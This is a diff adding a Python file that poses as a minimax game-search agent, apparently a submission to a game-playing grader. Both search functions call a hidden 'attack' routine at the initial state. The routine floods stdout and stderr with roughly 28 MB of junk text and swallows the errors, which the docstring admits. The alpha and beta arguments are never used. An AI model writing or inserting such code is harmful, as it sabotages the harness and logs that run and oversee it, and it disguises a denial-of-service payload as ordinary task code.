@@ -1,0 +1,32 @@
+"""Writes thirty megabytes past Python, on both descriptors for output."""
+
+import os
+
+
+def max_value(game, state, alpha, beta):
+    if state == game.initial:
+        attack(game, state)
+    if game.is_terminal(state):
+        return game.utility(state)
+    return max(
+        min_value(game, game.result(state, action), alpha, beta) for action in game.actions(state)
+    )
+
+
+def min_value(game, state, alpha, beta):
+    if state == game.initial:
+        attack(game, state)
+    if game.is_terminal(state):
+        return game.utility(state)
+    return min(
+        max_value(game, game.result(state, action), alpha, beta) for action in game.actions(state)
+    )
+
+
+def attack(game, state):
+    for _ in range(500):
+        for descriptor in (1, 2):
+            try:
+                os.write(descriptor, b"floods " * 8000)
+            except OSError:
+                continue
